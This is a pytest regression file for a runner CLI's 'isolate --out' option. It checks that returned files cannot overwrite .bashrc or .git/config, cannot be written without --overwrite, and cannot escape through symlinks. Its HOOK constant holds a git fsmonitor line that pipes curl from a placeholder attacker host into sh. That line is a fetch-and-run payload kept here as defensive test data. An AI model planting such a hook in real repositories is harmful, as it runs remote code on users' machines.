"""Issue 23 finding 7: `isolate --collect report.txt --out DIR` wrote `.bashrc` and
`.git/config` (with an `fsmonitor` hook), paths no pattern asked for, replacing the files
that were there. Now `--out` writes only what a `--collect` pattern asks for (matched as
`collect` matches: envelopes.files), never over an existing file without `--overwrite`,
never through a symlink out of DIR, and names every refusal on stderr.

The worker is tests/workers/events_worker.py in `media` mode (it answers with the paths
it is given, each holding "hi"), through the real `isolate` command.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from envelopes import codec
from tests.conftest import REPO, WORKERS, make_request

CLI = [sys.executable, "-m", "runner.cli"]
HOOK = "[core]\n\tfsmonitor = curl http://attacker.invalid/x | sh\n"
RETURNED = ["report.txt", ".bashrc", ".git/config"]


def isolate(out: Path, *options: str, names: list[str] = RETURNED) -> subprocess.CompletedProcess:
    worker = [sys.executable, str(WORKERS / "events_worker.py"), "media", json.dumps(names)]
    args = [*CLI, "isolate", "--runner", "local", *options, "--out", str(out), "--", *worker]
    return subprocess.run(args, input=codec.encode(make_request("run")), capture_output=True,
                          cwd=REPO, timeout=60, text=False)  # fmt: skip


def err(done: subprocess.CompletedProcess) -> str:
    return done.stderr.decode("utf-8", "replace")


def test_only_what_a_pattern_asked_for_is_written(tmp_path: Path):
    out = tmp_path / "home"
    done = isolate(out, "--collect", "report.txt")
    assert done.returncode == 1, err(done)  # some returned files were refused
    written = sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file())
    assert written == ["report.txt"]
    assert not (out / ".git").exists()
    assert "refused output.parts[2] '.bashrc': no --collect pattern asks for it" in err(done)
    assert "refused output.parts[3] '.git/config': no --collect pattern asks for it" in err(done)
    assert f"wrote {out / 'report.txt'} (2 bytes)" in err(done)


def test_files_already_there_are_never_replaced_without_overwrite(tmp_path: Path):
    out = tmp_path / "home"
    (out / ".git").mkdir(parents=True)
    (out / ".bashrc").write_text("my shell\n")
    (out / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (out / "report.txt").write_text("last week's report\n")
    # Even a pattern that asks for everything replaces nothing without --overwrite.
    done = isolate(out, "--collect", "**")
    assert done.returncode == 1, err(done)
    assert (out / ".bashrc").read_text() == "my shell\n"
    assert (out / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert (out / "report.txt").read_text() == "last week's report\n"
    for index, name in enumerate(RETURNED, start=1):
        assert f"refused output.parts[{index}] '{name}': already exists" in err(done)
    assert "--overwrite replaces it" in err(done)
    # --overwrite replaces what a pattern asked for, and only that.
    again = isolate(out, "--collect", "report.txt", "--overwrite")
    assert (out / "report.txt").read_text() == "hi"
    assert (out / ".bashrc").read_text() == "my shell\n"
    assert (out / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert "'.git/config': no --collect pattern asks for it" in err(again)


def test_overwrite_never_follows_a_symlink_out_of_dir(tmp_path: Path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    (outside / "config").write_text(HOOK.replace("curl", "keep"))
    os.symlink(outside / "config", out / "report.txt")  # a file link planted in DIR
    os.symlink(outside, out / "sub")  # a directory link planted in DIR
    done = isolate(out, "--collect", "**", "--overwrite", names=["report.txt", "sub/config"])
    assert done.returncode == 1, err(done)
    assert (outside / "config").read_text() == HOOK.replace("curl", "keep")
    assert sorted(p.name for p in outside.iterdir()) == ["config"]
    assert not (out / "report.txt").is_symlink() and (out / "report.txt").read_text() == "hi"
    assert "refused output.parts[2] 'sub/config': sub is a symbolic link" in err(done)


def test_out_without_collect_is_refused_before_anything_runs(tmp_path: Path):
    done = isolate(tmp_path / "out")
    assert done.returncode == 2
    assert "--out needs --collect GLOB" in err(done)
    assert not (tmp_path / "out").exists()
